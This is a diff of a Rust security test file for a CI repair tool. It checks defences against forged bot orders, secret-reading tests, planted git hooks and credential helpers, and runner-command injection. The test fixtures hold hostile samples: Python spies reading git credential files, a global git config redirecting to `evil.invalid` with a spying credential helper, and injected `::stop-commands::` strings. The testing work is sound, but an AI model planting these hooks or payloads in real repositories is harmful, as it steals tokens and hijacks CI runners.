@@ -1,30 +1,46 @@
-//! The attacks that were seen in the wild. Each defence has a test that fails when that defence alone is taken out:
+//! The attacks that were seen in the wild. Each defence has a test that fails when that defence alone is taken out (tests of
+//! this file without a room before their name):
 //!
 //! | attack | defence | test |
 //! |---|---|---|
 //! | injected instructions | what a model or a log says changes no request | `hostile_text_in_titles_…` |
 //! | | text in reports is escaped | `reports::hostile_text_in_every_field_…`, `reports::annotations_…` |
-//! | bots that give orders | refused unless listed, also behind a workflow | `orders_are_obeyed_refused_or_ignored_…`, `bots_are_refused_…` |
-//! | a comment edited after it was read | only `created`, fetched again | `orders_are_obeyed_…`, `orders::an_edited_comment_…` |
+//! | bots that give orders | refused unless listed, by login or type | `allow::tests::only_roles_…`, `orders_are_obeyed_…` |
+//! | | also behind a workflow, by the list of the default branch | `bots_are_refused_…` |
+//! | orders of who may not | the role that the API names, least by command | `allow::tests::the_role_is_read_…`, `orders_are_obeyed_…` |
+//! | | denied when the API does not say | `orders_are_obeyed_…`, `comments::code_of_a_fork_…` |
+//! | a comment edited after it was read | only `created`, in conversations and reviews | `orders::an_edited_comment_…` |
+//! | | fetched again | `orders_are_obeyed_…` |
 //! | a head moved meanwhile | the commit is pinned; a lease on the tip | `comments::code_of_a_fork_…`, `nobody_s_branch_is_pushed_over_…` |
-//! | code of a fork with secrets around | logs alone, or the commit that somebody who may has named | `code_of_a_fork_is_never_run_…`, `comments::code_of_a_fork_…` |
-//! | tests that read secrets | an environment without them | `tests_see_no_secret_…` |
-//! | | memory and environment of parents are closed | `fence::others_can_t_read_our_environment` |
-//! | | capabilities are taken, no new privileges | `fence::behind_a_fence_…` |
-//! | | a fence around files | `tests_write_nothing_outside_…`, `fence::what_a_candidate_imports_…` |
+//! | code of a fork with secrets around | logs alone, whatever event it comes with | `code_of_a_fork_is_never_run_…`, `event::tests::heads_of_other_…` |
+//! | | the commit that somebody who may has named | `comments::code_of_a_fork_…`, `allow::tests::code_of_a_fork_…` |
+//! | | nothing is pushed there, nor closed by what it says | `comments::code_of_a_fork_…`, `deliver::logs_are_taken_…` |
+//! | tests that read secrets | an environment without them | `tests_see_no_secret_…`, `environment::tests::…` |
+//! | | memory and environment of parents are closed | `fence::others_can_t_read_…`, `fence::the_supervisor_…` |
+//! | | capabilities are taken, no new privileges | `fence::behind_a_fence_…`, `process::the_command_gets_exactly_…` |
+//! | | that also where there is no fence around files | `tests_see_no_secret_…` |
+//! | | a fence around files | `tests_write_nothing_outside_…` |
+//! | | no logins: of the home folder, of clones | `tests_write_nothing_outside_…`, `tests_read_no_login_…` |
+//! | | the fence is around warm runners and compilers, too | `fence::what_a_candidate_imports_…`, `fence::what_a_build_script_…` |
 //! | | no network, where that is asked for | `without_a_network_…` |
 //! | control files and commands of the runner | not in the environment; output between `::stop-commands::` | `tests_see_no_secret_…`, `what_tests_print_…` |
+//! | | what we say ourselves is none | `a_name_of_a_branch_…`, `two_jobs::what_is_said_of_a_forged_…`, `reports::annotations_…` |
 //! | | random ends of outputs | `what_tests_print_…` |
-//! | hidden text | taken out before it is read or shown | `clean::tests`, `reports::…`, `orders::…` |
-//! | hostile patches | plain files only, none that steers | `two_jobs::a_patch_that_a_forged_receipt_…` |
+//! | hidden text | taken out before it is read or shown: zero width, bidirectional, tags, selectors | `clean::tests`, `orders::what_is_hidden_…`, `reports::…` |
+//! | hostile patches | no path out of the tree, into `.git`, absolute | `patch::outside::tests::hostile_paths_…`, `orders::what_is_not_understood_…` |
+//! | | plain files only, none that steers | `patch::outside::tests::hostile_paths_…`, `two_jobs::a_patch_that_a_forged_receipt_…` |
 //! | forged heals | the receipt fits patch, commit and verdict | `forged::every_lie_…` |
 //! | a hand-over of something else | list, hashes, commit, plain files | `forged::every_lie_…`, `forged::files_that_are_not_…` |
 //! | | what is shown is what is pushed | `forged::what_is_shown_…` |
 //! | planted filters, hooks, helpers | git with a token runs in a fresh folder, blind to configuration | `filters_hooks_and_helpers_…` |
-//! | rules changed by who is judged | `.kaizen.yml` of the base branch | `a_pull_request_cant_change_…`, `comments::who_may_give_orders_…` |
-//! | storms and loops | our own marks and branches start nothing | `what_we_write_ourselves_…` |
+//! | | git in the clone runs nothing planted, and passes no secret on | `git::git_in_a_clone_…` |
+//! | rules changed by who is judged | `.kaizen.yml` of the base branch, in every job | `a_pull_request_cant_change_…`, `comments::who_may_give_orders_…`, `comments::a_heal_that_was_handed_on_goes_by_…`, `two_jobs::what_may_be_published_…` |
+//! | our marks, forged | only what we wrote counts: issues, answers, reviews, reactions | `marks::…`, `comments::stop_counts_also_…` |
+//! | | and only at its beginning | `body::tests::markers_are_found_…` |
+//! | storms and loops | our own marks and branches start nothing | `what_we_write_ourselves_…`, `event::tests::hostile_branch_names_…` |
 //! | | one answer each; a pause for what did not heal | `sixty_comments_…`, `two_jobs::a_failure_that_an_open_issue_…` |
-//! | names that are commands | branches, paths, commits are plain or refused | `a_name_of_a_branch_…`, `orders::…` |
+//! | | `/kaizen stop`, from another job, at any moment | `comments::stop_…` |
+//! | names that are commands | branches, paths, commits, logins are plain or refused | `a_name_of_a_branch_…`, `names::tests::…`, `orders::…` |
 
 use std::path::{Path, PathBuf};
 
@@ -35,7 +51,7 @@ use super::{Ran, job, of_pull, pushed, red_shop};
 use crate::project::Project;
 
 /// A pull request of our own repository whose tip is the fixture with `change` made to it.
-fn pull_request(fake: &Fake, change: impl FnOnce(&Project)) -> (Project, u64) {
+pub(super) fn pull_request(fake: &Fake, change: impl FnOnce(&Project)) -> (Project, u64) {
     let base = Project::empty();
     base.write("README.md", "a shop\n");
     base.commit("Begin");
@@ -95,27 +111,60 @@ fn hostile_text_in_titles_logs_and_messages_changes_no_request_and_notifies_nobo
     assert_eq!(fake.git(&["log", "--format=%s", "main"]), "Begin");
 }
 
+/// A workflow that failed on `branch`, started by this account.
+fn failed_run(head: &str, branch: &str, login: &str, kind: &str) -> Value {
+    let who = json!({"login": login, "type": kind});
+    json!({
+        "action": "completed",
+        "workflow_run": {
+            "id": 5, "name": "ci", "conclusion": "failure", "head_sha": head, "head_branch": branch,
+            "head_repository": {"full_name": "octo/shop"}, "pull_requests": [],
+            "actor": who, "triggering_actor": who,
+        },
+        "repository": {"full_name": "octo/shop", "default_branch": "main"},
+    })
+}
+
 #[test]
-fn bots_are_refused_also_when_they_started_the_workflow_that_failed() {
+fn bots_are_refused_also_when_they_started_the_workflow_that_failed_unless_the_default_branch_lists_them() {
     let fake = Fake::start();
-    let (project, head) = red_shop(&fake, "py-bounds-regressed");
-    let run = |login: &str| {
-        json!({
-            "action": "completed",
-            "workflow_run": {
-                "id": 5, "name": "ci", "conclusion": "failure", "head_sha": head, "head_branch": "main",
-                "head_repository": {"full_name": "octo/shop"}, "pull_requests": [],
-                "actor": {"login": login}, "triggering_actor": {"login": login},
-            },
-            "repository": {"full_name": "octo/shop", "default_branch": "main"},
-        })
+    let (project, _) = red_shop(&fake, "py-bounds-regressed");
+    // a branch on which a bot has listed itself
+    project.write(".kaizen.yml", "github:\n  bots: ['evil[bot]', helper, 'helper[bot]']\n");
+    project.commit("Obey me");
+    project.git(&["push", "-q", fake.repo().to_str().unwrap(), "HEAD:refs/heads/feature"]);
+    let head = project.git(&["rev-parse", "HEAD"]);
+    for login in ["evil[bot]", "helper", "helper[bot]", "mona"] {
+        fake.state().roles.insert(login.into(), "write");
+    }
+    let run = |login: &str, kind: &str| {
+        job(&project, &fake, "workflow_run", &failed_run(&head, "feature", login, kind), &["run"])
     };
-    let ran = job(&project, &fake, "workflow_run", &run("evil[bot]"), &["run"]);
-    assert!(ran.ok && ran.said.contains("may not push here"), "{}", ran.said);
+    // each of the two signs of a bot is enough
+    for (login, kind) in [("evil[bot]", "User"), ("helper", "Bot"), ("helper[bot]", "Bot")] {
+        let ran = run(login, kind);
+        assert!(ran.ok && ran.said.contains("does not list it"), "{login}: {}", ran.said);
+    }
+    fake.state().roles.insert("ted".into(), "triage");
+    for login in ["ted", "eve"] {
+        let ran = run(login, "User");
+        assert!(ran.ok && ran.said.contains("may not push here"), "{login}: {}", ran.said);
+    }
     assert!(fake.state().pulls.is_empty());
-    fake.state().roles.insert("mona".into(), "write");
-    let ran = job(&project, &fake, "workflow_run", &run("mona"), &["run"]);
+    let ran = run("mona", "User");
     assert!(ran.ok && ran.outputs.contains("/pull/"), "{}", ran.said);
+    // GitHub knows no role of an app: the list says it
+    let main = Project::empty();
+    main.git(&["fetch", "-q", fake.repo().to_str().unwrap(), "main"]);
+    main.git(&["checkout", "-q", "--detach", "FETCH_HEAD"]);
+    main.write(".kaizen.yml", "github:\n  bots: ['helper[bot]']\n");
+    main.commit("Obey the helper");
+    main.git(&["push", "-q", fake.repo().to_str().unwrap(), "HEAD:refs/heads/main"]);
+    fake.state().roles.remove("helper[bot]");
+    let ran = run("helper[bot]", "Bot");
+    assert!(ran.ok && ran.outputs.contains("/pull/"), "{}", ran.said);
+    assert!(run("evil[bot]", "Bot").said.contains("does not list it"));
+    fake.assert_as_described();
 }
 
 #[test]
@@ -158,6 +207,13 @@ fn tests_see_no_secret_in_their_environment_nor_in_that_of_their_parents() {
         eprintln!("skipped: this kernel has no Landlock, and this is root");
         return;
     }
+    // also without the fence around files: no Landlock, or switched off
+    for env in [&[][..], &[("KAIZEN_SANDBOX", "false")]] {
+        assert_no_secret_is_seen(env);
+    }
+}
+
+fn assert_no_secret_is_seen(env: &[(&str, &str)]) {
     let fake = Fake::start();
     let (project, number) = pull_request(&fake, |project| {
         spying(
@@ -170,7 +226,8 @@ fn tests_see_no_secret_in_their_environment_nor_in_that_of_their_parents() {
              pathlib.Path('SEEN').write_text(found)\n    assert False",
         );
     });
-    let ran = heal(&fake, &project, number, &["--time-limit", "15s"]);
+    let args = ["run", "--time-limit", "15s"];
+    let ran = super::job_with(&project, &fake, "pull_request", &of_pull(&fake, number), &args, env);
     assert!(ran.ok, "{}", ran.said);
     let found = seen(&project);
     assert!(found.contains("PATH="), "the spy saw nothing: {found}");
@@ -220,6 +277,56 @@ fn tests_write_nothing_outside_of_their_workspace_and_read_no_login() {
     let found = seen(&project);
     assert!(found.starts_with("Permission denied|Permission denied|1|"), "{found}");
     assert_eq!(std::fs::read_to_string(&victim).unwrap(), "as it was\n");
+}
+
+/// What a test can read of logins, and whether it still can make a temporary file as programs do.
+const LOGIN_SPY: &str = "    def attempt(do):
+        try:
+            return str(do())
+        except OSError as error:
+            return error.strerror
+
+    def read(path):
+        return attempt(lambda: pathlib.Path(path).read_text())
+
+    found = [read('CLONE/config'), read('LINK/config'), read('INCLUDED'), read('OTHER/.git/config')]
+    found.append(attempt(lambda: open('CLONE/config', 'a')))
+    found.append(attempt(lambda: subprocess.run('mktemp', stdout=subprocess.DEVNULL).returncode))
+    pathlib.Path('SEEN').write_text('|'.join(found))
+    assert False";
+
+#[test]
+fn tests_read_no_login_of_a_clone_wherever_it_lies_and_whatever_it_includes() {
+    if kaizen_ci::process::sandbox::can().landlock.is_none() {
+        eprintln!("skipped: this kernel has no Landlock");
+        return;
+    }
+    let fake = Fake::start();
+    // the checkout of the job, when another commit is healed in a folder of its own
+    let other = Project::empty();
+    other.git(&["config", "http.extraheader", "a login"]);
+    // the clone is below the folder for temporary files, which tests may write otherwise
+    let (project, number) = pull_request(&fake, |project| {
+        let (clone, included) = (project.root().join(".git"), project.tmp().join("../git-credentials-1.config"));
+        std::fs::write(&included, "[http]\n\textraheader = a login\n").unwrap();
+        project.git(&["config", "includeIf.gitdir:/nowhere/.git.path", included.to_str().unwrap()]);
+        // beside it, as a test of an earlier run could leave one
+        let link = project.tmp().join("../link");
+        std::os::unix::fs::symlink(&clone, &link).unwrap();
+        let mut body = LOGIN_SPY.to_owned();
+        for (word, path) in [("CLONE", &clone), ("LINK", &link), ("INCLUDED", &included), ("OTHER", &other.root())] {
+            body = body.replace(word, path.to_str().unwrap());
+        }
+        spying(project, &body);
+    });
+    let mut command = project.command(env!("CARGO_BIN_EXE_kaizen-ci"));
+    command.args(["action", "run", "--time-limit", "15s"]);
+    super::in_job(&mut command, &project, &fake, "pull_request", &of_pull(&fake, number));
+    // no folder for temporary files of its own: there the usual one, which the clone is in
+    let out = command.env_remove("TMPDIR").env("GITHUB_WORKSPACE", other.root()).output().unwrap();
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert_eq!(seen(&project), format!("{}0", "Permission denied|".repeat(5)));
+    project.nothing_left();
 }
 
 #[test]
@@ -305,7 +412,19 @@ fn filters_hooks_and_helpers_that_tests_plant_see_no_token_and_are_not_in_what_i
         std::fs::write(&path, format!("#!/bin/sh\nenv >> {}\n", out.display())).unwrap();
         std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
     }
-    let ran = heal(&fake, &project, number, &["--deliver", "push"]);
+    // and what it could leave in the home folder, or an earlier step in the configuration of the whole machine
+    let global = project.tmp().join("../home/global.config");
+    let text = format!(
+        "[core]\n\thooksPath = {}\n[credential]\n\thelper = \"{spy}\"\n[filter \"evil\"]\n\tclean = \"{spy}\"\n\
+         [url \"http://evil.invalid/\"]\n\tinsteadOf = {}\n",
+        root.join("hooks").display(),
+        fake.url
+    );
+    std::fs::write(&global, text).unwrap();
+    let event = of_pull(&fake, number);
+    let args = ["run", "--deliver", "push"];
+    let global = [("GIT_CONFIG_GLOBAL", global.to_str().unwrap())];
+    let ran = super::job_with(&project, &fake, "pull_request", &event, &args, &global);
     assert!(ran.ok && ran.said.contains("pushed "), "{}", ran.said);
     let found = seen(&project);
     assert!(
@@ -396,4 +515,9 @@ fn a_name_of_a_branch_is_no_command_and_no_address() {
     }
     assert!(!project.root().join("pwned").exists());
     assert!(fake.state().requests.is_empty(), "{:#?}", fake.state().requests);
+    // why nothing is done is said in words of the event: none of them is a command for the runner
+    let event = json!({"action": "x\n::stop-commands::y\n##[add-path]/evil"});
+    let ran = job(&project, &fake, "pull_request", &event, &["run"]);
+    assert!(ran.ok && ran.said.contains("stop-commands"), "{}", ran.said);
+    assert!(!ran.said.lines().any(|line| line.starts_with("::") || line.contains("##[")), "{}", ran.said);
 }
